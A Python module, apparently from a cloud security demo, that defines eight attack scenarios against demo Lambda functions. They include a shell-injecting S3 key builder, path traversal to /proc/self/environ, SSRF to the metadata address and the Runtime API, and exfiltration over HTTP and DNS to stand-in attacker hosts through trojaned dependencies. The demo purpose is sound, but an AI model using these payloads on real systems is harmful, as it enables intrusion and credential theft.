"""The attacks the demo replays, each with how it is delivered and how its effect shows.

An attack is a short list of invocations against one of the demo's functions, either
through an event field that reaches a weakness in the function's own code, or
through a trojaned dependency deployed in the function's code directory. Its effect
is judged only from what the outside saw: a marker file the payload writes, a
request a stand-in server received, a name the DNS stand-in was asked, or secrets in
what the function answered.
"""

from __future__ import annotations

import base64
import gzip
import json
import random
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from . import events
from .standins import Seen

FILE_PROCESSOR = "file-processor"
ORDERS_API = "orders-api"
PARTNER_NOTIFIER = "partner-notifier"

DNS_ZONE = "x.attacker.example"
EXFIL_HOST = "exfil.attacker.example"
COLLECT_HOST = "telemetry.attacker.example"


@dataclass
class Step:
    """One invocation of an attack: S3 objects to create first, then the event."""

    event: dict[str, Any]
    objects: list[tuple[str, str, bytes]] = field(default_factory=list)


@dataclass
class AttackEnv:
    """What the attacker is assumed to know and what the runner prepared."""

    mode: str
    marker_dir: Path
    runtime_api: str
    input_bucket: str
    secret_key: str
    session_token: str
    hooks_base: str

    def marker(self, attack_id: str) -> Path:
        return self.marker_dir / f"{self.mode}-{attack_id}"


@dataclass
class Outcome:
    """What was observed while the attack ran (never what the runner expected)."""

    payloads: list[Any]
    requests: list[Seen]
    dns_names: list[str]
    marker_exists: bool


@dataclass
class Attack:
    """One attack scenario.

    Attributes:
        trojan: file in ``trojans/`` that replaces ``trojan_package``'s
            ``__init__.py`` in the deployment, or None for an event-borne attack.
        needs_namespace: runs only inside the demo's network namespace.
        steps: the invocations, built for one mode.
        effect: a sentence describing the effect seen, or None when none was.
    """

    id: str
    title: str
    function: str
    vector: str
    steps: Callable[[AttackEnv, random.Random], list[Step]]
    effect: Callable[[AttackEnv, Outcome], str | None]
    trojan: str | None = None
    trojan_package: str | None = None
    placeholders: Callable[[AttackEnv], dict[str, str]] | None = None
    needs_namespace: bool = False


def _injection_key(command: str) -> str:
    """An S3 key whose basename breaks out of the function's quoted shell word."""
    # The basename may not contain '/', so the command travels base64-encoded;
    # trailing spaces change the encoding until it has no '/'.
    for pad in range(64):
        encoded = base64.b64encode((command + " " * pad).encode()).decode()
        if "/" not in encoded:
            return f"uploads/archive';echo {encoded}|base64 -d|sh;'.gz"
    raise ValueError(f"could not encode {command!r} without '/'")


def _cmd_injection_steps(env: AttackEnv, rng: random.Random) -> list[Step]:
    key = _injection_key(f"touch '{env.marker('cmd-injection')}'")
    body = gzip.compress(b"quarterly report\n", mtime=0)
    return [
        Step(
            events.s3_event(rng, env.input_bucket, key, body),
            [(env.input_bucket, key, body)],
        )
    ]


def _marker_effect(attack_id: str) -> Callable[[AttackEnv, Outcome], str | None]:
    def effect(env: AttackEnv, seen: Outcome) -> str | None:
        if seen.marker_exists:
            return f"marker file {env.marker(attack_id).name} was written"
        return None

    return effect


def _environ_steps(env: AttackEnv, rng: random.Random) -> list[Step]:
    # os.path.join drops the folder when the second part is absolute.
    name = "/proc/self/environ"
    return [Step(events.api_event(rng, "GET", "/exports", query={"name": name}))]


def _environ_effect(env: AttackEnv, seen: Outcome) -> str | None:
    for payload in seen.payloads:
        if env.session_token in json.dumps(payload):
            return "the response carried the function's AWS session token"
    return None


def _callback_step(env: AttackEnv, rng: random.Random, url: str) -> Step:
    body = {
        "order_id": f"ord-{rng.getrandbits(40):010x}",
        "status": "shipped",
        "customer": "acme",
        "callback_url": url,
    }
    return Step(events.sqs_event([events.sqs_record(rng, body, "order-updates")]))


def _metadata_steps(env: AttackEnv, rng: random.Random) -> list[Step]:
    url = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
    return [_callback_step(env, rng, url)]


def _metadata_effect(env: AttackEnv, seen: Outcome) -> str | None:
    hits = [r for r in seen.requests if r.server == "metadata"]
    if hits:
        return f"the metadata stand-in answered {len(hits)} request(s) ({hits[0].path})"
    return None


def _runtime_api_steps(env: AttackEnv, rng: random.Random) -> list[Step]:
    url = f"http://{env.runtime_api}/2018-06-01/runtime/invocation/next"
    return [_callback_step(env, rng, url)]


def _runtime_api_effect(env: AttackEnv, seen: Outcome) -> str | None:
    for payload in seen.payloads:
        results = payload.get("results", []) if isinstance(payload, dict) else []
        for item in results:
            answer = str(item.get("callback", ""))
            if answer[:3].isdigit():
                return f"the Runtime API answered the function ({answer[:40]}...)"
    return None


def _exfil_steps(env: AttackEnv, rng: random.Random) -> list[Step]:
    return [_callback_step(env, rng, f"https://{EXFIL_HOST}/c/acme")]


def _host_effect(host: str) -> Callable[[AttackEnv, Outcome], str | None]:
    def effect(env: AttackEnv, seen: Outcome) -> str | None:
        hits = [r for r in seen.requests if r.host == host]
        if not hits:
            return None
        leaked = any(env.secret_key in r.body for r in hits)
        what = "including the secret key" if leaked else f"{len(hits[0].body)} bytes"
        return f"{host} received {len(hits)} request(s), {what}"

    return effect


def _benign_sqs(env: AttackEnv, rng: random.Random, count: int) -> list[Step]:
    return [Step(e) for e in events.sqs_batches(rng, count, env.hooks_base)]


def _dns_effect(env: AttackEnv, seen: Outcome) -> str | None:
    first = env.secret_key.encode().hex()[:48]
    leaked = [n for n in seen.dns_names if first in n]
    if leaked:
        return (
            f"the DNS stand-in was asked {len(leaked)} name(s) carrying the secret key"
        )
    return None


def _dropper_steps(env: AttackEnv, rng: random.Random) -> list[Step]:
    uploads = events.s3_uploads(rng, env.input_bucket, 2)
    return [Step(u.event, [(u.bucket, u.key, u.body)]) for u in uploads]


def _beacon_steps(env: AttackEnv, rng: random.Random) -> list[Step]:
    traffic = events.OrdersTraffic(rng)
    return [Step(traffic.next())]


ATTACKS: list[Attack] = [
    Attack(
        id="cmd-injection",
        title="Command injection through the S3 key",
        function=FILE_PROCESSOR,
        vector="object key with shell syntax reaches subprocess(shell=True)",
        steps=_cmd_injection_steps,
        effect=_marker_effect("cmd-injection"),
    ),
    Attack(
        id="proc-environ",
        title="Credentials read from /proc/self/environ",
        function=ORDERS_API,
        vector="path traversal: GET /exports?name=/proc/self/environ",
        steps=_environ_steps,
        effect=_environ_effect,
    ),
    Attack(
        id="ssrf-metadata",
        title="SSRF to the metadata address",
        function=PARTNER_NOTIFIER,
        vector="callback_url http://169.254.169.254/... in the SQS message",
        steps=_metadata_steps,
        effect=_metadata_effect,
        needs_namespace=True,
    ),
    Attack(
        id="ssrf-runtime-api",
        title="SSRF to the Lambda Runtime API",
        function=PARTNER_NOTIFIER,
        vector="callback_url http://$AWS_LAMBDA_RUNTIME_API/... in the SQS message",
        steps=_runtime_api_steps,
        effect=_runtime_api_effect,
    ),
    Attack(
        id="tmp-drop-exec",
        title="Script dropped in /tmp, run on a later warm invocation",
        function=FILE_PROCESSOR,
        vector="trojaned docmeta dependency: drops on the cold start, runs when warm",
        steps=_dropper_steps,
        effect=_marker_effect("tmp-drop-exec"),
        trojan="docmeta_dropper.py",
        trojan_package="docmeta",
        placeholders=lambda env: {"MARKER": str(env.marker("tmp-drop-exec"))},
    ),
    Attack(
        id="exfil-new-domain",
        title="Exfiltration to a new domain",
        function=PARTNER_NOTIFIER,
        vector=f"callback_url https://{EXFIL_HOST}/... in the SQS message",
        steps=_exfil_steps,
        effect=_host_effect(EXFIL_HOST),
        needs_namespace=True,
    ),
    Attack(
        id="dns-exfil",
        title="DNS exfiltration of the secret key",
        function=PARTNER_NOTIFIER,
        vector=f"trojaned partner_sdk looks up <hex of the key>.{DNS_ZONE}",
        steps=lambda env, rng: _benign_sqs(env, rng, 1),
        effect=_dns_effect,
        trojan="partner_sdk_dns.py",
        trojan_package="partner_sdk",
        placeholders=lambda env: {"DNS_ZONE": DNS_ZONE},
        needs_namespace=True,
    ),
    Attack(
        id="import-time-payload",
        title="Dependency payload at import time",
        function=ORDERS_API,
        vector=f"trojaned orders_common posts AWS_* to {COLLECT_HOST} when imported",
        steps=_beacon_steps,
        effect=_host_effect(COLLECT_HOST),
        trojan="orders_common_beacon.py",
        trojan_package="orders_common",
        placeholders=lambda env: {"COLLECT_HOST": COLLECT_HOST},
        needs_namespace=True,
    ),
]


def by_id(attack_id: str) -> Attack:
    """The attack named ``attack_id``.

    Raises:
        KeyError: no such attack (the message lists the known ones).
    """
    for attack in ATTACKS:
        if attack.id == attack_id:
            return attack
    raise KeyError(
        f"unknown attack {attack_id!r}; expected one of {[a.id for a in ATTACKS]}"
    )
